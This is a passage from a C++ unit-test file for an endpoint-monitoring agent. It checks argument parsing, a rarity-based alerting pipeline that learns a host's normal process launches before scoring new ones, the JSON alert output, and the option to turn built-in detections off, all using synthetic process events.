  EXPECT_EQ(parsed.config.rarity_learn_s, 120);
  EXPECT_FALSE(parsed.config.builtin_detections);
  const char* wrong[] = {"vigil-agent", "--rarity", "maybe"};
  EXPECT_TRUE(parse_args(3, wrong).exit_now);
}

// ------------------------------------------------------------------ pipeline

struct Captured {
  std::uint32_t score = 0;
  std::vector<std::string> hits;
  bool alerted = false;
};

class Capture final : public ScoredEventSink {
 public:
  void on_scored(const Event& event, std::uint32_t score, const FeatureVector& /*features*/,
                 std::span<const Indicator* const> hits, std::string_view alert_id) override {
    Captured c{score, {}, !alert_id.empty()};
    for (const auto* h : hits) c.hits.emplace_back(h->id);
    by_pid[event.pid] = std::move(c);
  }
  std::map<std::uint32_t, Captured> by_pid;
};

// Kernel records stamped `s` seconds after boot; the pipeline's wall clock is
// boot + kT0, so the behaviour memory starts at kT0 + the first record.
template <typename Rec>
std::vector<std::byte> at(Rec r, double s, std::uint32_t ppid = 1) {
  r.hdr.ts_ns = ns(s);
  r.hdr.ppid = ppid;
  return test::bytes_of(r);
}

vigil_sock listen_record(std::uint32_t pid, std::uint16_t port) {
  auto l = test::make_connect(pid, {0, 0, 0, 0}, 0, "appserver");
  l.op = VIGIL_SOCK_LISTEN;
  l.lport = port;
  return l;
}

struct RarityPipeline {
  explicit RarityPipeline(bool builtin = true) {
    p.set_rarity_config(RarityConfig{.learn_s = 60});
    p.set_builtin_detections(builtin);
    p.set_scored_sink(&capture);
  }
  void feed(std::vector<std::byte> r) {
    p.on_record(r);
    p.on_batch_end();
  }
  ProcessTable table{1000, ""};
  Pipeline p{"rare-host", table, static_cast<std::int64_t>(kT0 * 1e9)};
  Capture capture;
};

TEST(RarityPipeline, AnEventWithNoIndicatorAlertsOnlyInARiskyContext) {
  RarityPipeline rp;
  // Learning: a service that listens, and an unrelated program (paths that do
  // not exist here: no "freshly written" context).
  rp.feed(at(test::make_exec(100, "/opt/vigil-test/appserver", {"appserver"}), 1));
  rp.feed(at(listen_record(100, 8080), 2));
  rp.feed(at(test::make_exec(200, "/opt/vigil-test/batch", {"batch"}), 3));
  // A child seen while learning: never raised later.
  rp.feed(at(test::make_exec(101, "/opt/vigil-test/known-helper", {"known-helper"}), 4, 100));
  EXPECT_EQ(std::ranges::count(rp.capture.by_pid.at(101).hits, "rare-exec"), 0);
  EXPECT_TRUE(rp.p.rarity().memory().learning(kT0 + 4, 60));

  // After the window: the listener starts a program it never ran.
  rp.feed(at(test::make_exec(102, "/opt/vigil-test/payload", {"payload"}), 120, 100));
  const auto& risky = rp.capture.by_pid.at(102);
  EXPECT_GE(risky.score, 50U) << "network-facing: 30 + 25";
  ASSERT_EQ(std::ranges::count(risky.hits, "rare-exec"), 1);
  EXPECT_TRUE(std::ranges::all_of(risky.hits, [](const std::string& id) {
    const auto* ind = find_indicator(id);
    return id == "rare-exec" || (ind != nullptr && ind->severity < 50);
  })) << "nothing else could have scored it an alert";

  // The same kind of event in no risky context: learned, not raised.
  rp.feed(at(test::make_exec(201, "/opt/vigil-test/report", {"report"}), 121, 200));
  const auto& quiet = rp.capture.by_pid.at(201);
  EXPECT_LT(quiet.score, 50U);
  EXPECT_EQ(std::ranges::count(quiet.hits, "rare-exec"), 0);
  EXPECT_GE(rp.p.rarity().stats().no_context, 1U);

  // Learned while learning: the listener's known child stays quiet.
  rp.feed(at(test::make_exec(103, "/opt/vigil-test/known-helper", {"known-helper"}), 122, 100));
  EXPECT_EQ(std::ranges::count(rp.capture.by_pid.at(103).hits, "rare-exec"), 0);
  EXPECT_LT(rp.capture.by_pid.at(103).score, 50U);
  EXPECT_EQ(rp.p.rarity().stats().hits, 1U);
}

TEST(RarityPipeline, AlertJsonCarriesTheRarityObject) {
  test::TempDir dir;
  RarityPipeline rp;
  auto sink = LineSink::open((dir.path() / "alerts.jsonl").string());
  ASSERT_OK(sink);
  rp.p.set_alerts(std::move(*sink), OutputFormat::kJson, 50);
  rp.feed(at(test::make_exec(100, "/opt/vigil-test/appserver", {"appserver"}), 1));
  rp.feed(at(listen_record(100, 8080), 2));
  rp.feed(at(test::make_exec(102, "/opt/vigil-test/payload", {"payload"}), 120, 100));
  std::ifstream in(dir.path() / "alerts.jsonl");
  std::string all((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
  EXPECT_NE(
      all.find("\"rarity\":{\"key\":\"pc|/opt/vigil-test/appserver|/opt/vigil-test/payload\""),
      std::string::npos)
      << all;
  EXPECT_NE(all.find("\"contexts\":[\"network-facing\"]"), std::string::npos) << all;
  EXPECT_NE(all.find("\"fleet_hosts\":0"), std::string::npos) << all;
  EXPECT_NE(all.find("{\"id\":\"rare-exec\",\"attack\":\"TA0002\",\"severity\":55"),
            std::string::npos)
      << "the indicator shows its computed severity: " << all;
}

TEST(RarityPipeline, BuiltinDetectionsOffDropsEveryOtherHit) {
  // Control: a program run from /tmp raises a built-in detection.
  RarityPipeline on(true);
  on.feed(at(test::make_exec(300, "/tmp/vigil-x/dropper", {"dropper"}), 1));
  ASSERT_FALSE(on.capture.by_pid.at(300).hits.empty());
  EXPECT_EQ(on.p.stats().builtin_dropped, 0U);

  RarityPipeline off(false);
  EXPECT_FALSE(off.p.builtin_detections());
  off.feed(at(test::make_exec(300, "/tmp/vigil-x/dropper", {"dropper"}), 1));
  EXPECT_TRUE(off.capture.by_pid.at(300).hits.empty()) << "learning, and built-ins are off";
  EXPECT_GE(off.p.stats().builtin_dropped, 1U);
  EXPECT_LT(off.capture.by_pid.at(300).score, 50U);
  // After the learning window the rarity path still raises (its only way in).
  off.feed(at(test::make_exec(301, "/tmp/vigil-y/other", {"other"}), 120, 300));
  const auto& hit = off.capture.by_pid.at(301);
  ASSERT_EQ(hit.hits, std::vector<std::string>{"rare-exec"});
  EXPECT_GE(hit.score, 45U) << "writable location alone: 30 + 15, a hint";
  EXPECT_LT(hit.score, 50U);
}

}  // namespace
}  // namespace vigil::agent
